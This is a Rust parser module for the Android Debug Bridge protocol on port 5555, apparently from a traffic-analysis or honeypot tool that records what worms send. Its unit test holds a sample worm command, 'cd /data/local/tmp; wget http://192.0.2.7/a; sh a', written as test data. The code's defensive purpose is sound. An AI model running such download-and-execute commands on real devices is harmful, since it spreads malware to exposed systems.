//! Android debug bridge (protocol.txt of its source): what worms of 2018 and later ask devices on port 5555 to run.
//!
//! | message | verb | object | more |
//! |---|---|---|---|
//! | connect | CNXN | | hello; software: the banner (`host::…`, `device::ro.product.name=…`); details: version (hexadecimal) |
//! | login | AUTH | token, signature, or the public key's comment (often `user@host`) | |
//! | change to TLS | STLS | | what follows is not read |
//! | open | OPEN | service, command included: `shell:cd /data/local/tmp; …` | |
//! | data | WRTE | service that it belongs to, where the client opened one only | body |
//!
//! OKAY and CLSE are not told.

use serde::{Deserialize, Serialize};

use crate::binary::Fields;
use crate::frames::{Frames, Length};
use crate::hash::Hash;
use crate::lines::{bare, word};
use crate::message::{Kind, Match, Message, Parser, Side};

/// Where it usually is.
pub const PORTS: &[u16] = &[5555];

/// Bytes of a header: command, two arguments, length, checksum, the command with all bits turned.
const HEADER: usize = 24;

/// A client begins with CNXN.
pub fn client(bytes: &[u8]) -> Match {
    begins(bytes, &[b"CNXN"])
}

/// A server answers with CNXN, or wants a login or TLS first.
pub fn server(bytes: &[u8]) -> Match {
    begins(bytes, &[b"CNXN", b"AUTH", b"STLS"])
}

fn begins(bytes: &[u8], commands: &[&[u8; 4]]) -> Match {
    match commands.iter().fold(Match::No, |m, c| m.or(Match::prefix(bytes, *c))) {
        Match::Yes if bytes.len() < HEADER => Match::Maybe,
        Match::Yes if length(bytes) == Length::Wrong => Match::No,
        found => found,
    }
}

fn length(bytes: &[u8]) -> Length {
    let mut fields = Fields(bytes);
    let (command, Some(_), length, Some(_), magic) =
        (fields.le32(), fields.take(8), fields.le32(), fields.take(4), fields.le32())
    else {
        return Length::Short;
    };
    match (command, length, magic) {
        (Some(command), Some(length), Some(magic)) if command == !magic => Length::Of(HEADER + length as usize),
        (_, _, None) => Length::Short,
        _ => Length::Wrong,
    }
}

/// A connection.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Adb {
    frames: Frames,
    /// The only service that was opened; empty where there are several.
    service: Option<String>,
    /// TLS.
    veiled: bool,
}

impl Parser for Adb {
    fn read(&mut self, side: Side, input: &[u8], out: &mut Vec<Message>) -> usize {
        let mut at = 0;
        while !self.veiled {
            let Some(frame) = self.frames.next(side, input, &mut at, length) else { return at };
            let message = self.message(side, frame.bytes);
            out.extend(message.map(|m| Message { cut: m.cut || frame.cut, ..m }));
        }
        input.len()
    }

    fn gap(&mut self, side: Side) {
        self.frames.gap(side);
    }

    fn end(&mut self, _side: Side, _rest: &[u8], _out: &mut Vec<Message>) {}
}

impl Adb {
    fn message(&mut self, side: Side, frame: &[u8]) -> Option<Message> {
        let (header, data) = frame.split_at_checked(HEADER)?;
        let first = Fields(&header[4..]).le32()?;
        let mut message = Message::of(if side == Side::Client { Kind::Request } else { Kind::Reply });
        message.verb = Some(message.keep(&header[..4]));
        match &header[..4] {
            b"CNXN" => {
                message.kind = Kind::Hello;
                message.software = Some(message.keep(bare(data)));
                message.detail("version", format!("{first:08x}").as_bytes());
            }
            b"AUTH" => {
                let object = match first {
                    1 => &b"token"[..],
                    2 => b"signature",
                    3 => word(bare(data)).1,
                    _ => b"",
                };
                message.object = Some(message.keep(object));
            }
            b"STLS" => self.veiled = side == Side::Client,
            b"OPEN" => {
                let service = message.keep(bare(data));
                self.service = Some(if self.service.is_none() { service.clone() } else { String::new() });
                message.object = Some(service);
            }
            b"WRTE" => {
                message.object = self.service.clone().filter(|s| !s.is_empty());
                message.body = Some(Hash::of(data));
            }
            _ => return None,
        }
        Some(message)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{by, talk};

    fn message(command: &[u8; 4], first: u32, second: u32, data: &[u8]) -> Vec<u8> {
        let checksum = data.iter().map(|b| u32::from(*b)).sum::<u32>();
        let number = u32::from_le_bytes(*command);
        let fields = [number, first, second, data.len() as u32, checksum, !number];
        [fields.iter().flat_map(|f| f.to_le_bytes()).collect::<Vec<_>>(), data.to_vec()].concat()
    }

    #[test]
    fn a_command_and_its_answer() {
        let shell = b"shell:cd /data/local/tmp; wget http://192.0.2.7/a; sh a\0";
        let messages = talk(
            "adb",
            &[
                (Side::Client, &message(b"CNXN", 0x0100_0000, 4096, b"host::\0")),
                (Side::Server, &message(b"CNXN", 0x0100_0000, 4096, b"device::ro.product.name=box;\0")),
                (Side::Client, &message(b"OPEN", 1, 0, shell)),
                (Side::Server, &message(b"OKAY", 7, 1, b"")),
                (Side::Server, &message(b"WRTE", 7, 1, b"not found")),
                (Side::Client, &message(b"OPEN", 2, 0, b"sync:\0")),
                (Side::Client, &message(b"WRTE", 2, 8, &vec![b'x'; 40_000])),
                (Side::Client, &message(b"CLSE", 2, 8, b"")),
            ],
        );
        let asked = by(Side::Client, &messages);
        assert_eq!(asked[0].software.as_deref(), Some("host::"));
        assert_eq!(asked[0].details, [("version", "01000000".to_owned())]);
        assert_eq!(asked[1].object.as_deref(), Some("shell:cd /data/local/tmp; wget http://192.0.2.7/a; sh a"));
        assert_eq!((asked.len(), asked[3].cut, asked[3].object.as_deref()), (4, true, None));
        let said = by(Side::Server, &messages);
        assert_eq!((said.len(), said[1].body.clone()), (2, Some(Hash::of(b"not found"))));
        assert_eq!(said[1].object, asked[1].object);
    }

    #[test]
    fn a_key_names_who_made_it() {
        let key = b"QAAAANkVR3mZ unknown@unknown\0";
        let messages = talk(
            "adb",
            &[
                (Side::Client, &message(b"CNXN", 0x0100_0001, 1 << 20, b"host::features=cmd\0")),
                (Side::Server, &message(b"AUTH", 1, 0, &[7; 20])),
                (Side::Client, &message(b"AUTH", 3, 0, key)),
            ],
        );
        assert_eq!(messages[1].1.object.as_deref(), Some("token"));
        assert_eq!(messages[2].1.object.as_deref(), Some("unknown@unknown"));
        let mut bad = message(b"CNXN", 1, 1, b"");
        bad[23] ^= 1;
        assert_eq!((client(&bad), client(b"CN"), client(b"CONNECT")), (Match::No, Match::Maybe, Match::No));
    }
}
